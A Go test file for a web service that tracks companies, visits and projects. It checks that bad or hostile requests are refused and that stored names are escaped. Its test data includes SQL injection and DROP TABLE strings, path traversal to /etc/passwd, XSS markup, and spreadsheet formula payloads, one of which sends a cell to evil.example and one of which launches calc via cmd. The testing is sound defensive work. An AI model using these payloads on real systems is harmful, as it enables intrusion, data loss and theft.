package apptest_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"zhudian/internal/apptest"
	"zhudian/internal/db"
)

// bad is one request that must be refused: with a status of the fours, a stable code, words in Chinese, the field at fault where
// there is one, and nothing stored.
type bad struct {
	name, login, method, path, body string

	status int
	code   string // of the answer, or of the field
	field  string
}

const nobodysID = "00000000-0000-0000-0000-000000000000"

// company gives the body of a new company with one more value; project and sign likewise.
func companyWith(more string) string { return `{"name":"坏值试验有限公司",` + more + `}` }

func signWith(amount string) string {
	return `{"project":"PROJECT","signed_on":"2020-12-14","amount":` + amount + `}`
}

func visitWith(more string) string {
	return `{"team":"shenzhen.520602","company":"COMPANY","way":"onsite","said":"谈了厂房、用电和用工。","intent":"B",` + more + `}`
}

// badRequests are what a program must expect from the world, by what each tries.
func badRequests() []bad {
	return []bad{
		// someone guesses at the sign-in
		{"sign in with SQL", "", "POST", "/api/v1/session", `{"login":"admin'--","password":"x"}`, 401, "wrong_sign_in", ""},
		// queries that were made by hand
		{"sort by a statement", "officer", "GET", "/api/v1/companies?sort=amount%3BDROP%20TABLE%20ledger--", "", 0, "", "sort"},
		{"sort by an expression", "officer", "GET", "/api/v1/companies?sort=(CASE%20WHEN%20(SELECT%201)=1%20THEN%20name%20ELSE%20id%20END)", "", 0, "", "sort"},
		{"a page below zero", "officer", "GET", "/api/v1/companies?limit=-1", "", 0, "too_", "limit"},
		{"a page of everything", "officer", "GET", "/api/v1/companies?limit=1000000000", "", 0, "too_", "limit"},
		{"a made-up cursor", "officer", "GET", "/api/v1/companies?after=%27%20OR%201=1--", "", 400, "", ""},
		{"an unknown filter", "officer", "GET", "/api/v1/companies?verified_by=me", "", 400, "", ""},
		{"a measure by injection", "officer", "GET", "/api/v1/figures?measure=x%27%20OR%20%271", "", 0, "unknown_measure", ""},
		{"a dimension by injection", "officer", "GET", "/api/v1/figures?by=county);DROP%20TABLE%20ledger_entry--", "", 0, "", ""},
		// records that are not there, and paths that leave the place
		{"a project that is not", "county", "GET", "/api/v1/projects/" + nobodysID, "", 404, "", ""},
		{"a path to a file", "county", "GET", "/api/v1/projects/..%2f..%2fetc%2fpasswd", "", 404, "", ""},
		{"a company's path to a file", "county", "GET", "/api/v1/companies/..%2f..%2fetc%2fpasswd", "", 404, "", ""},
		// numbers that are none, or too many
		{"amount NaN", "county", "POST", "/api/v1/projects/PROJECT/sign", signWith("NaN"), 0, "", ""},
		{"amount 1e9999", "county", "POST", "/api/v1/projects/PROJECT/sign", signWith("1e9999"), 0, "", ""},
		{"amount 0x10", "county", "POST", "/api/v1/projects/PROJECT/sign", signWith("0x10"), 0, "", ""},
		{"amount as a text", "county", "POST", "/api/v1/projects/PROJECT/sign", signWith(`"1.5亿"`), 0, "", "amount"},
		{"amount above every bound", "county", "POST", "/api/v1/funds", `{"project":"PROJECT","amount":9223372036854775807,"received_on":"2020-12-14","voucher_no":"1"}`, 0, "", ""},
		{"amount beyond 64 bits", "county", "POST", "/api/v1/projects/PROJECT/sign", signWith("9223372036854775808"), 0, "", "amount"},
		{
			"shares of 99.99 %", "province", "POST", "/api/v1/projects/PROJECT/credit",
			`{"project":"PROJECT","reason":"联合招商","shares":[{"unit":"520602","share":333300},{"unit":"520603","share":333300},{"unit":"520600","share":333300}]}`, 422, "", "shares",
		},
		// identities
		{"a credit code with a wrong check digit", "officer", "POST", "/api/v1/companies", companyWith(`"credit_code":"91310000MA0000105F"`), 422, "check_digit", "credit_code"},
		{"a credit code with a letter that is none", "officer", "POST", "/api/v1/companies", companyWith(`"credit_code":"91310000MAO000015F"`), 422, "credit_code_letter", "credit_code"},
		{"a credit code a spreadsheet ate", "officer", "POST", "/api/v1/companies", companyWith(`"credit_code":"9.1310000E+17"`), 422, "credit_code_number", "credit_code"},
		{"a phone of no one", "officer", "POST", "/api/v1/contacts", `{"company":"COMPANY","name":"测试","basis":"card","phone":"12345678901"}`, 422, "", "phone"},
		{"a full-width reserved login", "sysadmin", "POST", "/api/v1/accounts", `{"login":"ａｄｍｉｎ","name":"新人","unit":"520000"}`, 422, "", "login"},
		{"a login with something invisible", "sysadmin", "POST", "/api/v1/accounts", "{\"login\":\"张三\u200b\",\"name\":\"新人\",\"unit\":\"520000\"}", 422, "", "login"},
		// days that never were, or are not yet
		{"the thirtieth of February", "officer", "POST", "/api/v1/visits", visitWith(`"day":"2020-02-30"`), 422, "", "day"},
		{"a day to come", "officer", "POST", "/api/v1/visits", visitWith(`"day":"2099-01-01"`), 422, "", "day"},
		{"a serial number for a day", "officer", "POST", "/api/v1/visits", visitWith(`"day":"45747"`), 422, "", "day"},
		// values that are not the sender's to set
		{"a status of one's own", "officer", "POST", "/api/v1/companies", companyWith(`"verified_by":"me"`), 422, "", "verified_by"},
		{"another node", "officer", "POST", "/api/v1/visits", visitWith(`"day":"2020-12-14","node_id":"440305"`), 422, "", "node_id"},
		{"another's team", "stranger", "POST", "/api/v1/visits", visitWith(`"day":"2020-12-14"`), 422, "not_your_team", "team"},
		{"two values in one body", "officer", "POST", "/api/v1/companies", companyWith(`"region":"440305"`) + `{}`, 400, "", ""},
		{"not JSON", "officer", "POST", "/api/v1/companies", `name=x`, 400, "", ""},
	}
}

// TestBadInput sends each of them on both engines and counts every table before and after.
func TestBadInput(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		clients := map[string]*http.Client{"": w.Client("")}
		for _, x := range badRequests() {
			if clients[x.login] == nil {
				clients[x.login] = w.Client(x.login)
			}
		}
		fill := strings.NewReplacer("PROJECT", w.ID["project"], "COMPANY", w.ID["company"])
		before := counts(t, w)
		for _, x := range badRequests() {
			t.Run(x.name, func(t *testing.T) {
				status, text := w.Do(clients[x.login], w.Request(x.method, fill.Replace(x.path), fill.Replace(x.body)))
				x.check(t, status, text)
			})
		}
		if after := counts(t, w); after != before {
			t.Errorf("something was stored:\n%s\nbefore\n%s", after, before)
		}
	})
}

func (x bad) check(t *testing.T, status int, text string) {
	t.Helper()
	var p struct {
		Code   string
		Detail string
		Errors []struct{ Field, Code, Detail string }
	}
	if status < 400 || status > 499 || x.status != 0 && status != x.status {
		t.Fatalf("status %d, want %d: %.400s", status, x.status, text)
	}
	if err := json.Unmarshal([]byte(text), &p); err != nil || !stable.MatchString(p.Code) || !chinese(p.Detail) {
		t.Fatalf("no problem with code and words: %.400s", text)
	}
	codes, fields := []string{p.Code}, []string{}
	for _, e := range p.Errors {
		codes, fields = append(codes, e.Code), append(fields, e.Field)
		if !stable.MatchString(e.Code) || !chinese(e.Detail) {
			t.Errorf("a field without code and words: %+v", e)
		}
	}
	if x.code != "" && !strings.Contains(strings.Join(codes, " "), x.code) {
		t.Errorf("codes %v, want %s", codes, x.code)
	}
	if x.field != "" && !strings.Contains(strings.Join(fields, " "), x.field) {
		t.Errorf("fields %v, want %s: %.300s", fields, x.field, text)
	}
}

var stable = regexp.MustCompile(`^[a-z][a-z0-9_]*$`)

func chinese(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return unicode.Is(unicode.Han, r) })
}

// counts gives the rows of every table but those that remember requests themselves: sessions, failed sign-ins and the trail of both.
func counts(t *testing.T, w *apptest.World) string {
	t.Helper()
	var b strings.Builder
	err := w.DB.Read(apptest.System(), func(ctx context.Context, tx *db.Tx) error {
		for _, table := range []string{
			"auth_account", "company_company", "company_contact", "company_name", "field_visit", "field_tour", "ledger_entry",
			"pipeline_project", "pipeline_funds", "verify_claim", "verify_round", "verify_step", "verify_evidence",
		} {
			n, err := db.One[int64](ctx, tx, "SELECT count(*) FROM "+table) //nolint:gosec // names of this test
			if err != nil {
				return err
			}
			fmt.Fprintf(&b, "%s %d\n", table, n)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestHostileNames stores names that are code elsewhere: they come back word for word, are text on every page, and a table that
// goes to a spreadsheet does not let them be formulas.
func TestHostileNames(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		c := w.Client("province")
		for _, name := range []string{`<img src=x onerror=alert(1)>公司`, `"><button hx-post="/logout" hx-trigger="load">公司`, `=HYPERLINK("http://evil.example/?"&A1,"点击")`, `＝cmd|' /C calc'!A0`, `+1+1公司`, `@SUM(1)公司`} {
			body, _ := json.Marshal(map[string]string{"name": name})
			status, text := w.Do(c, w.Request("POST", "/api/v1/companies", string(body)))
			var out struct{ ID, Name string }
			if err := json.Unmarshal([]byte(text), &out); status != http.StatusCreated || err != nil {
				t.Errorf("%s: %d %.300s", name, status, text)
				continue
			}
			if out.Name != name && !strings.HasPrefix(name, "＝") {
				t.Errorf("%q came back as %q", name, out.Name)
			}
			for _, page := range []string{"/companies", "/companies/" + out.ID, "/companies/" + out.ID + "/edit"} {
				status, text := w.Do(c, w.Request("GET", page, ""))
				if status != http.StatusOK || strings.Contains(text, "<img src=x") || strings.Contains(text, `"><button hx-post="/logout" hx-trigger`) {
					t.Errorf("%s: %d, or a name became markup", page, status)
				}
			}
		}
		status, text := w.Do(c, w.Request("GET", "/api/v1/companies/export?format=csv", ""))
		if status != http.StatusOK || !strings.Contains(text, "HYPERLINK") {
			t.Fatalf("export: %d %.200s", status, text)
		}
		for cell := range strings.SplitSeq(strings.NewReplacer("\n", ",", "\r", "").Replace(text), ",") {
			if cell = strings.Trim(cell, `"`+"\ufeff"); cell != "" && strings.ContainsAny(cell[:1], "=+@") || strings.HasPrefix(cell, "＝") {
				t.Errorf("a cell of the export is a formula: %.60s", cell)
			}
		}
	})
}

// TestBadInput_repeats sends the same id twice: the same content is one record and one answer, other content a conflict that keeps
// the first.
func TestBadInput_repeats(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		c := w.Client("officer")
		send := func(said string) (int, string) {
			return w.Do(c, w.Request("POST", "/api/v1/visits", strings.ReplaceAll(visitWith(`"id":"0176614a-0000-7000-8000-00000000abcd","day":"2020-12-14","purpose":"`+said+`"`), "COMPANY", w.ID["company"])))
		}
		status, first := send("初访")
		if status != http.StatusCreated {
			t.Fatal(status, first)
		}
		before := counts(t, w)
		if status, again := send("初访"); status != http.StatusCreated || again != first {
			t.Errorf("the same once more: %d %.300s", status, again)
		}
		if status, text := send("回访"); status != http.StatusConflict || !strings.Contains(text, "id_reused") {
			t.Errorf("the same id with other content: %d %.300s", status, text)
		}
		if counts(t, w) != before {
			t.Error("a repeat stored something")
		}
	})
}

// TestBadInput_scope asks for another county's or the whole province's figures: the answer is never wider than one's own scope.
func TestBadInput_scope(t *testing.T) {
	w := apptest.Open(t, db.SQLite)
	c := w.Client("neighbour")
	for _, query := range []string{"", "&unit=520602", "&unit=520600", "&unit=520000", "&station=shenzhen", "&where=county:520602"} {
		status, text := w.Do(c, w.Request("GET", "/api/v1/figures?through=2020-12-31&book=filed&measure=visit.enterprise,contract.amount"+query, ""))
		if status >= 500 || strings.Contains(text, "1850000000") || strings.Contains(text, `"value":1,`) {
			t.Errorf("%s: %d shows a neighbour's figures: %.300s", query, status, text)
		}
	}
}

// TestBadInput_wrongSignInsAlike: an unknown login, a hostile one and a wrong password cannot be told apart.
func TestBadInput_wrongSignInsAlike(t *testing.T) {
	w := apptest.Open(t, db.SQLite)
	var first string
	for _, login := range []string{"nobody", "admin'--", "officer", "<script>"} {
		body, _ := json.Marshal(map[string]string{"login": login, "password": "wrong"})
		status, text := w.Do(w.Client(""), w.Request("POST", "/api/v1/session", string(body)))
		text = reference.ReplaceAllString(text, "")
		if first == "" {
			first = text
		}
		if status != http.StatusUnauthorized || text != first {
			t.Errorf("%s: %d %s, others got %s", login, status, text, first)
		}
	}
}

var reference = regexp.MustCompile(`"reference":"[^"]*"`)
